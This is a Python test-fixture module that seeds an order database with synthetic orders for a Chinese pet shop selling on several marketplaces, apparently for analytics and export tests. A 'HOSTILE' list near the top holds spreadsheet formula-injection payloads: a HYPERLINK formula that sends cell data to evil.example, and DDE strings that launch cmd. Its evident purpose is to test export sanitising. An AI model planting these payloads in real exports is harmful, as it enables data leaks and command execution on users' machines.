"""Readable, seeded order data for the analytics tests, written straight into the system of record."""

from __future__ import annotations

import random
import re
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from sqlalchemy import Engine, func, insert, select, text

from core import clock
from core.identity.access import ROLES, can
from core.orders.tables import order_events, order_lines, orders
from core.stock.tables import skus
from core.store.db import open_store, transaction
from core.store.tables import channels, shops

CHANNELS = [("taobao", "淘宝/天猫", 500), ("jd", "京东", 800), ("pdd", "拼多多", 300), ("shopify", "Shopify", 200)]
SHOPS = [
    (1, "旺财宠物天猫旗舰店", "taobao"),
    (2, "旺财宠物京东自营店", "jd"),
    (3, "旺财宠物拼多多店", "pdd"),
    (4, "WangCai Pets Global", "shopify"),
]
SKUS = [
    (1, "PET-FOOD-2KG", "全价犬粮 2kg", 4500, 8900),
    (2, "CAT-LITTER-10L", "豆腐猫砂 10L", 2800, 4900),
    (3, "DOG-LEASH-M", "牵引绳 M 号", 900, 3900),
    (4, "CAT-TREATS-80G", "冻干猫零食 80g", 600, 2900),
    (5, "AQUARIUM-FILTER", "鱼缸过滤器", 5200, 6900),
]
PROVINCES = [
    "广东",
    "浙江",
    "江苏",
    "上海",
    "北京",
    "四川",
    "山东",
    "内蒙古",
    "新疆",
    "广西",
    "香港",
    "台湾",
    "澳门",
    "",
    "广东省",
    "火星",
]
STAFF = ["王芳", "李雷", "张伟"]
# What a hostile store holds in its free text: formula prefixes, phones, long numbers, emoji, RTL.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+86 139 1234 5678 请放门口",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "上海市浦东新区世纪大道100号 联系电话13912345678",
    "备用电话 021-62345678，订单 3082612345678901234",
    "🐱 猫粮 \u202e RTL",
]
EXPORTERS = sorted(role for role in ROLES if can(role, "export"))
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
MOBILE = re.compile(r"(?<![0-9])1[3-9][0-9][ -]?[0-9]{4}[ -]?[0-9]{4}(?![0-9])")
LANDLINE = re.compile(r"(?<![0-9])0[1-9][0-9]{1,2}-[0-9]{7,8}(?![0-9])")
RETURN_REASONS = ["七天无理由", "发错货/漏发", "质量问题", "尺码不合适", "与描述不符", "不想要了"]


def add_reference_data(engine: Engine, now: datetime) -> None:
    with transaction(engine) as conn:
        conn.execute(insert(channels), [{"code": c, "name": n, "commission_bp": bp} for c, n, bp in CHANNELS])
        conn.execute(insert(shops), [{"id": i, "name": n, "channel": c} for i, n, c in SHOPS])
        conn.execute(
            insert(skus),
            [
                {
                    "id": i,
                    "sku": s,
                    "name": n,
                    "on_hand": 500,
                    "reserved": 0,
                    "unit_cost_cents": cost,
                    "updated_at": now,
                }
                for i, s, n, cost, _ in SKUS
            ],
        )


@dataclass
class OrderPlan:
    """One order as the tests build it: the order row, its lines and its audit events."""

    row: dict
    lines: list[dict] = field(default_factory=list)
    events: list[dict] = field(default_factory=list)


def random_order(rng: random.Random, number: int, now: datetime, days: int = 35) -> OrderPlan:
    """A plausible order somewhere in the last `days` days, in any status, with lines and events."""
    shop_id, _, channel = rng.choice(SHOPS)
    created = now - timedelta(minutes=rng.randint(60, days * 24 * 60))
    lines = [
        {"sku_id": s[0], "qty": rng.randint(1, 3), "unit_price_cents": s[4], "discount_cents": 0}
        for s in rng.sample(SKUS, rng.randint(1, 3))
    ]
    goods = sum(line["qty"] * line["unit_price_cents"] for line in lines)
    discount = rng.choice([0, 0, 0, rng.randint(500, 6000)])
    coupon = rng.choice([0, 0, 0, 0, rng.randint(300, 4000)])
    fee = rng.choice([0, 0, 800])
    row = {
        "channel": channel,
        "channel_order_no": f"{channel.upper()}{20260000000 + number}",
        "shop_id": shop_id,
        "status": "pending_payment",
        "province": rng.choice(PROVINCES),
        "created_at": created,
        "goods_cents": goods,
        "platform_discount_cents": discount,
        "seller_coupon_cents": coupon,
        "shipping_fee_cents": fee,
        "paid_cents": max(goods + fee - discount - coupon, 1),
        "shipping_cost_cents": rng.choice([600, 800, 1200]),
        "buyer": "张三",
        "phone": f"138{number:08d}",
        "address": "深圳市南山区科技园 1 号",
    }
    plan = OrderPlan(row, lines, [_event(created, "import", None, "pending_payment", "received from " + channel)])
    _walk(rng, plan, now)
    plan.row["updated_at"] = max(e["at"] for e in plan.events)
    return plan


def _walk(rng: random.Random, plan: OrderPlan, now: datetime) -> None:
    """Move the order along its life cycle, stopping where chance or the clock says."""
    row = plan.row
    fate = rng.random()
    if fate < 0.06:
        return
    if fate < 0.11:
        _step(plan, "cancelled", row["created_at"] + timedelta(minutes=30), "system", "payment timeout")
        row["cancelled_at"] = plan.events[-1]["at"]
        return
    _step(plan, "paid", row["created_at"] + timedelta(minutes=rng.randint(1, 40)), "pull:" + row["channel"], "")
    row["paid_at"] = plan.events[-1]["at"]
    if fate < 0.19:
        reason = rng.choice(["insufficient_stock", "address_invalid"])
        _step(
            plan,
            "on_hold",
            row["paid_at"] + timedelta(minutes=5),
            rng.choice(["import", "李雷"]),
            "地址无法识别" if reason == "address_invalid" else "insufficient stock",
        )
        row["hold_reason"] = reason
        return
    shipped = row["paid_at"] + timedelta(hours=rng.choice([2, 10, 20, 30, 47, 60, 90]))
    if shipped > now:
        return
    _step(plan, "shipped", shipped, rng.choice(STAFF), "")
    row["shipped_at"] = shipped
    if rng.random() < 0.15 and shipped + timedelta(days=3) < now:
        row["return_reason"] = rng.choice(RETURN_REASONS)
        row["returned_at"] = shipped + timedelta(days=3)
        row["updated_at"] = row["returned_at"]
        plan.events.append(_event(row["returned_at"], rng.choice(STAFF), "shipped", "shipped", "退货入库"))


def _step(plan: OrderPlan, to_status: str, at: datetime, actor: str, reason: str) -> None:
    plan.events.append(_event(at, actor, plan.row["status"], to_status, reason))
    plan.row["status"] = to_status


def _event(at: datetime, actor: str, from_status: str | None, to_status: str, reason: str) -> dict:
    return {"at": at, "actor": actor, "from_status": from_status, "to_status": to_status, "reason": reason}


ORDER_DEFAULTS = {
    "source_hash": "test",
    "platform_status": "paid",
    "cancelled_at": None,
    "paid_at": None,
    "shipped_at": None,
    "hold_reason": None,
    "return_reason": None,
    "returned_at": None,
    "platform_discount_cents": 0,
    "seller_coupon_cents": 0,
    "shipping_fee_cents": 0,
    "goods_cents": 0,
    "buyer": "",
    "address": "",
}


def write(engine: Engine, plans: list[OrderPlan]) -> None:
    """Insert the planned orders with their lines and events, ids assigned by the database."""
    with transaction(engine) as conn:
        start = conn.execute(select(func.coalesce(func.max(orders.c.id), 0))).scalar_one() + 1
        # executemany takes its columns from the first row: every row must name the same ones.
        rows = [ORDER_DEFAULTS | p.row | {"id": start + i} for i, p in enumerate(plans)]
        conn.execute(insert(orders), rows)
        lines = [line | {"order_id": start + i} for i, p in enumerate(plans) for line in p.lines]
        events = [event | {"order_id": start + i} for i, p in enumerate(plans) for event in p.events]
        if lines:
            conn.execute(insert(order_lines), lines)
        if events:
            conn.execute(insert(order_events), events)
        _follow_ids(conn, "orders")


def _follow_ids(conn, *tables: str) -> None:
    """PostgreSQL sequences do not see explicit ids: move them past the rows written."""
    if conn.dialect.name == "postgresql":
        for table in tables:
            conn.execute(text(f"SELECT setval(pg_get_serial_sequence('{table}', 'id'), (SELECT max(id) FROM {table}))"))


def seed(engine: Engine, count: int, now: datetime, seed: int = 7) -> list[OrderPlan]:
    rng = random.Random(seed)
    plans = [random_order(rng, i, now) for i in range(count)]
    write(engine, plans)
    return plans


def store_ending_now(url: str, count: int) -> Engine:
    """A migrated store at url whose `count` orders end now (for pages, which ask the clock)."""
    engine = open_store(url)
    add_reference_data(engine, clock.now())
    seed(engine, count, clock.now())
    return engine
